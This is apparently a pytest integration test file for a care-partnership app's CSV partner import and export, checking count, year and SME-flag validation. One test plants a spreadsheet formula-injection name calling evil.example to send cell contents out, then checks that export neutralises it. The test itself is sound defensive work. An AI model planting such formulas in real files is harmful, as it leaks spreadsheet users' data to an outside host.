"""Counts, SME flags and exported names: what a partners file says is stored as meant, or refused by name."""

import csv
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from carepool.cli import main
from carepool.db.engine import Database
from carepool.partners import service
from carepool.partners.model import Organisation, OrgKind
from carepool.partners.service import Located, PartnerBatch
from carepool.web.app import create_app
from tests.integration.helpers import add_user, counts, token_for

PARTNERS = """code,name,kind,sme
E09000005,London Borough of Brent,local_authority,no
QRV,NHS North West London ICB,nhs_commissioner,no
1-101234567,Kindly Care Ltd,provider,yes
"""
POPULATION_HEADER = "locality_code,age_band,year,count\n"


@pytest.fixture
def brent(cli_env: Database, tmp_path: Path) -> Database:
    """Brent, its ICB, an SME provider, and the locality Brent Kilburn."""
    (tmp_path / "partners.csv").write_text(PARTNERS)
    (tmp_path / "localities.csv").write_text("code,name,council_code,nhs_code\nBRENT-KIL,Kilburn,E09000005,QRV\n")
    assert main(["orgs", "import", str(tmp_path / "partners.csv")]) == 0
    assert main(["orgs", "import", str(tmp_path / "localities.csv")]) == 0
    return cli_env


def _import(tmp_path: Path, name: str, body: str, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    (tmp_path / name).write_text(body, encoding="utf-8")
    capsys.readouterr()
    code = main(["orgs", "import", str(tmp_path / name)])
    return code, capsys.readouterr().err


@pytest.mark.parametrize(("count", "said"), [
    ("99999999999999999999999", "expected at most 1,000,000,000, got '99999999999999999999999'"),
    ("1\u00b23", "expected a whole number like 1234 or 1,234, got '1\u00b23'"),
    ('"1,7,3,4"', "expected a whole number like 1234 or 1,234, got '1,7,3,4'"),
])
def test_a_population_count_that_is_no_real_count_is_named_and_nothing_is_imported(
    brent: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str], count: str, said: str,
) -> None:
    body = POPULATION_HEADER + f"BRENT-KIL,65-74,2026,9000\nBRENT-KIL,85+,2026,{count}\n"
    code, err = _import(tmp_path, "pop.csv", body, capsys)
    assert code == 2 and "Traceback" not in err
    assert f"pop.csv, row 3, column count: {said}" in err
    assert counts(brent) == (3, 0)


def test_a_population_year_out_of_range_is_named(
    brent: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    code, err = _import(tmp_path, "pop.csv", POPULATION_HEADER + "BRENT-KIL,65-74,20260,9000\n", capsys)
    assert code == 2 and "pop.csv, row 2, column year: expected a year from 1900 to 2200, got '20260'" in err


def test_a_population_row_with_an_unquoted_thousands_comma_is_named(
    brent: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    code, err = _import(tmp_path, "pop.csv", POPULATION_HEADER + "BRENT-KIL,65-74,2026,9,000\n", capsys)
    assert code == 2 and "pop.csv, row 2: has 5 values but the header has 4 columns" in err
    assert counts(brent) == (3, 0)


def test_the_api_refuses_a_huge_count_with_the_same_message(brent: Database) -> None:
    add_user(brent, "admin@brent.test", "E09000005", "admin")
    body = POPULATION_HEADER + "BRENT-KIL,65-74,2026,99999999999999999999999\n"
    with TestClient(create_app(database=brent)) as client:
        answer = client.post("/api/partners/import", files={"file": ("huge.csv", body.encode(), "text/csv")},
                             headers={"Authorization": f"Bearer {token_for(brent, 'admin@brent.test')}"})
    assert answer.status_code == 422
    assert any("huge.csv, row 2, column count: expected at most 1,000,000,000" in p
               for p in answer.json()["problems"])
    assert counts(brent) == (3, 0)


def _sme(database: Database, code: str) -> bool:
    with database.uow() as uow:
        return service.get_organisation(uow=uow, code=code).sme


@pytest.mark.parametrize("body", ["code,name,kind\n1-101234567,Kindly Care Limited,provider\n",
                                  "code,name,kind,sme\n1-101234567,Kindly Care Limited,provider,\n"])
def test_a_blank_or_missing_sme_keeps_the_flag_on_record(
    brent: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str], body: str,
) -> None:
    code, err = _import(tmp_path, "providers.csv", body, capsys)
    assert code == 0, err
    with brent.uow() as uow:
        kindly = service.get_organisation(uow=uow, code="1-101234567")
    assert kindly.name == "Kindly Care Limited" and kindly.sme


def test_a_stated_sme_still_changes_the_flag(
    brent: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    assert _import(tmp_path, "p.csv", "code,name,kind,sme\n1-101234567,Kindly Care Ltd,provider,no\n", capsys)[0] == 0
    assert not _sme(brent, "1-101234567")


def test_a_new_provider_must_say_whether_it_is_an_sme(
    brent: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    code, err = _import(tmp_path, "providers.csv", "code,name,kind\n1-107000000,Caring Hands,provider\n"
                        "E09000009,London Borough of Ealing,local_authority\n", capsys)
    assert code == 2 and "nothing was imported" in err
    assert ("providers.csv, row 2, column sme: needs yes or no for a new provider (add an sme column if the file "
            "has none)") in err
    assert counts(brent) == (3, 0)
    ealing = "code,name,kind\nE09000009,London Borough of Ealing,local_authority\n"
    code, err = _import(tmp_path, "councils.csv", ealing, capsys)
    assert code == 0, err  # other kinds are never SMEs: no need to say
    assert not _sme(brent, "E09000009")


def test_an_unstated_sme_is_kept_through_the_service_too(brent: Database) -> None:
    batch = PartnerBatch(organisations=[Located(Organisation("1-101234567", "Kindly Care Ltd", OrgKind.PROVIDER))],
                         sme_unstated={"1-101234567"})
    with brent.uow() as uow:
        service.import_batch(uow=uow, actor="test", batch=batch)
    assert _sme(brent, "1-101234567")


def test_the_organisations_csv_export_writes_formulas_as_text(
    brent: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    name = '=HYPERLINK("https://evil.example/?"&A1,"Kindly Care")'
    body = f'code,name,kind,sme\n1-199999999,"{name.replace(chr(34), chr(34) * 2)}",provider,yes\n'
    assert _import(tmp_path, "evil.csv", body, capsys)[0] == 0
    out = tmp_path / "orgs.csv"
    assert main(["orgs", "export", str(out), "--table", "organisations"]) == 0
    with out.open(newline="", encoding="utf-8") as handle:
        names = {row["code"]: row["name"] for row in csv.DictReader(handle)}
    assert names["1-199999999"] == "'" + name
    assert names["1-101234567"] == "Kindly Care Ltd"
